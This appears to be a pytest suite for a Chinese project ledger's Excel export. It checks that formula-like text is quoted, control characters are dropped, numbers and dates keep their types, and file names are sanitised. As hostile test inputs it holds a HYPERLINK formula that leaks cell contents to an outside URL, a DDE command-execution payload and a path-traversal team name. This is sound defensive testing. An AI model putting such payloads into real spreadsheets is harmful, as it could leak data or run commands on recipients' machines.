"""The ledger's .xlsx export is spreadsheet-safe (OWASP CSV injection): text never becomes a
formula, control characters openpyxl refuses are dropped, numbers and dates stay typed."""
import datetime
import io

import pytest
from openpyxl import load_workbook

from tests.factories import make_project, make_task_force, make_user
from tracker import clock
from tracker.domain import pipeline
from tracker.models import Project
from tracker.services.ledger import listing, export
from tracker.services import xlsx

HYPERLINK = '=HYPERLINK("http://x?y="&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"


def _sheet(filters=None):
    data = export.export_xlsx(listing.filtered(filters or {"sort": "name", "dir": "asc"}))
    return load_workbook(io.BytesIO(data)).active


def _row_of(sheet, name):
    """The cells of the project named ``name`` (row 1: title, row 2: header)."""
    for row in sheet.iter_rows(min_row=3):
        if row[1].value == name:
            return row
    raise AssertionError(f"{name!r} not exported: {[r[1].value for r in sheet.iter_rows()]}")


def _col(sheet, title):
    """0-based index of the column headed ``title``."""
    return [c.value for c in sheet[2]].index(title)


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("ctl\x08bs", "ctlbs"), ("\x08=1", "'=1"),
    ("普通文字", "普通文字"), ("a=b", "a=b"), ("", ""),
])
def test_safe_text(value, shown):
    assert xlsx.safe_text(value) == shown


def test_numbers_dates_and_empty_cells_are_unchanged():
    day = datetime.date(2026, 3, 1)
    assert [xlsx.safe_value(v) for v in (1.5, -3, day, None, True)] == \
        [1.5, -3, day, None, True]


def test_formula_like_text_comes_back_as_quoted_string_cells(db):
    teams = [make_task_force(f"T{i}", f"{c}专班") for i, c in enumerate("@+-")]
    make_project(teams[0], HYPERLINK, investor=DDE)
    make_project(teams[1], "项目乙", investor="+86 138")
    make_project(teams[2], "项目丙", investor="-减号")
    sheet = _sheet()
    first = _row_of(sheet, "'" + HYPERLINK)
    assert first[1].data_type == "s" and first[4].value == "'" + DDE and first[4].data_type == "s"
    assert first[2].value == "'@专班" and first[2].data_type == "s"
    assert _row_of(sheet, "项目乙")[2].value == "'+专班"
    assert _row_of(sheet, "项目乙")[4].value == "'+86 138"
    assert _row_of(sheet, "项目丙")[2].value == "'-专班"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_a_stored_control_character_is_dropped_not_a_failure(db):
    team = make_task_force("TF1", "精细化工专班")
    project = make_project(team, "旧数据项目", investor="旧投资方")
    # an old row from before the normaliser refused control characters
    Project.update(name="ctl\x08bs", investor="=x\x1f").where(Project.id == project.id).execute()
    row = _row_of(_sheet(), "ctlbs")
    assert row[4].value == "'=x" and row[4].data_type == "s"


def test_a_normal_row_is_unchanged(db):
    team = make_task_force("TF1", "精细化工专班")
    user = make_user("boss", "bureau")
    on = clock.today() - datetime.timedelta(days=3)
    make_project(team, "乙烯下游一体化", user=user, investor="华锦集团",
                 planned_investment="250000.5", contract_value="60000", stage=pipeline.SIGNED,
                 on=on)
    sheet = _sheet()
    assert [c.value for c in sheet[2]][:5] == ["序号", "项目名称", "所属专班", "区县/开发区",
                                               "投资方"]
    row = _row_of(sheet, "乙烯下游一体化")
    assert [c.value for c in row[:5]] == [1, "乙烯下游一体化", "精细化工专班", None, "华锦集团"]
    planned, contract = row[_col(sheet, "计划投资额（万元）")], row[_col(sheet, "签约额（万元）")]
    assert planned.value == 250000.5 and planned.data_type == "n"
    assert contract.value == 60000 and contract.number_format == "#,##0.00"
    signed = row[_col(sheet, "签约日期")]
    assert signed.value == datetime.datetime.combine(on, datetime.time())
    assert signed.is_date and signed.number_format == "yyyy-mm-dd"
    assert row[_col(sheet, "当前阶段")].value == pipeline.label(pipeline.SIGNED)


def test_export_page_with_hostile_and_broken_rows(app, client, auth):
    with app.app_context():
        team = make_task_force("TF1", "@专班")
        make_user("boss", "bureau")
        make_project(team, HYPERLINK, investor=DDE)
        broken = make_project(team, "旧数据项目")
        Project.update(name="ctl\x08bs").where(Project.id == broken.id).execute()
    auth.login("boss")
    response = client.get("/projects/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.data)).active
    names = sorted(row[1] for row in sheet.iter_rows(min_row=3, values_only=True))
    assert names == sorted(["'" + HYPERLINK, "ctlbs"])


# --- what a clerk hands on: title, 序号, 责任人, 到位资金合计, filter, widths, name -------

NOW = datetime.datetime(2026, 11, 28, 1, 30, tzinfo=datetime.timezone.utc)  # 09:30 in Shanghai


def _ledger_world():
    from tracker.services.ledger import corrections
    from tests.backfill import ledger as backfill_ledger
    from tracker.services.ledger import projects as ledger_projects
    ledger_service = backfill_ledger(ledger_projects)
    chem = make_task_force("JXHG", "精细化工专班")
    other = make_task_force("ZB", "装备制造专班")
    boss = make_user("boss", "bureau", display_name="张处长")
    on = clock.today() - datetime.timedelta(days=10)
    long_name = "精细化工乙烯下游一体化项目"
    a = make_project(chem, long_name, user=boss, investor="ABCDEFGHIJKLM", owner=boss,
                     planned_investment="1000", stage=pipeline.SIGNED, contract_value="500",
                     on=on)
    ledger_service.record_funds(boss, a, received_on=on, amount="300")
    kept = ledger_service.record_funds(boss, a, received_on=on, amount="200.5")
    voided = ledger_service.record_funds(boss, a, received_on=on, amount="9999")
    corrections.void(boss, a.id, "funds", voided.id, "重复登记")
    make_project(chem, "乙项目", user=boss)
    make_project(other, "丙项目", user=boss)
    return dict(chem=chem, other=other, boss=boss, a=a, kept=kept, long_name=long_name)


def _file_sheet(exported):
    return load_workbook(io.BytesIO(exported.data)).active


def test_title_header_numbering_owner_and_funds(db):
    world = _ledger_world()
    exported = export.export_ledger(
        {"tf": world["chem"].id, "sort": "name", "dir": "asc"}, now=NOW)
    sheet = _file_sheet(exported)
    title = sheet["A1"].value
    assert title.startswith("招商项目台账（专班：精细化工专班；阶段：全部；区县/开发区：全部；年度：全部）")
    assert "导出时间：2026-11-28 09:30（北京时间）" in title
    assert "A1" in {str(r).split(":")[0] for r in sheet.merged_cells.ranges}
    header = [c.value for c in sheet[2]]
    assert header[:2] == ["序号", "项目名称"] and len(header) == len(export.HEADER)
    for title in ("责任人", "到位资金合计（万元）", "最近进展日期", "预计签约日期", "存在问题"):
        assert title in header
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert [r[0] for r in rows] == [1, 2]          # 序号; 丙项目 of another team filtered out
    assert [r[1] for r in rows] == ["乙项目", world["long_name"]]
    by_name = {r[1]: dict(zip(header, r)) for r in rows}
    signed = by_name[world["long_name"]]
    assert signed["责任人"] == "张处长"
    assert signed["到位资金合计（万元）"] == 500.5     # 300 + 200.5; the voided 9,999 is not
    assert signed["最近进展日期"] is not None
    assert by_name["乙项目"]["到位资金合计（万元）"] == 0 and by_name["乙项目"]["责任人"] is None
    funds_cell = sheet.cell(row=4, column=header.index("到位资金合计（万元）") + 1)
    assert funds_cell.number_format == "#,##0.00" and funds_cell.data_type == "n"
    assert exported.rows == 2


def test_auto_filter_frozen_header_and_cjk_widths(db):
    world = _ledger_world()
    sheet = _file_sheet(export.export_ledger({"sort": "name"}, now=NOW))
    last = sheet.cell(row=2, column=len(export.HEADER)).column_letter
    assert sheet.auto_filter.ref == f"A2:{last}5"           # header + 3 projects
    assert sheet.freeze_panes == "C3"
    header = [c.value for c in sheet[2]]

    def width(title):
        return sheet.column_dimensions[sheet.cell(row=2, column=header.index(title) + 1)
                                       .column_letter].width
    # 13 CJK characters (项目名称) vs 13 ASCII letters (投资方): about twice as wide
    assert len(world["long_name"]) == len("ABCDEFGHIJKLM")
    assert width("项目名称") >= 2 * 13 > width("投资方") >= 13
    assert width("到位资金合计（万元）") >= 20                  # its CJK header fits


def test_file_names(db):
    world = _ledger_world()
    one = export.export_ledger({"tf": world["chem"].id}, now=NOW)
    assert (one.filename, one.ascii_filename) == \
        ("招商项目台账_精细化工_20261128.xlsx", "project-ledger_JXHG_20261128.xlsx")
    everything = export.export_ledger({}, now=NOW)
    assert everything.filename == "招商项目台账_全部_20261128.xlsx"
    assert "filename*=UTF-8''%E6%8B%9B" in everything.content_disposition()
    assert 'filename="project-ledger_all_20261128.xlsx"' in everything.content_disposition()


def test_a_team_name_cannot_break_the_file_name(db):
    team = make_task_force("A/B", '../坏"名*专班')
    name = export.export_ledger({"tf": team.id}, now=NOW)
    assert name.filename == "招商项目台账_坏_名_20261128.xlsx"
    assert name.ascii_filename == "project-ledger_A_B_20261128.xlsx"


def test_cli_filters(db):
    from tracker.domain.errors import ValidationError
    team = make_task_force("JXHG", "精细化工专班")
    assert export.cli_filters("JXHG", "签约", "2026") == \
        {"sort": "name", "dir": "asc", "tf": team.id, "stage": "signed", "year": 2026}
    assert export.cli_filters(stage="dropped")["stage"] == "dropped"
    for kwargs, field in (({"task_force": "NOPE"}, "task_force"), ({"stage": "zzz"}, "stage"),
                          ({"year": "26"}, "year"), ({"year": "abc"}, "year")):
        with pytest.raises(ValidationError) as caught:
            export.cli_filters(**kwargs)
        assert field in caught.value.errors
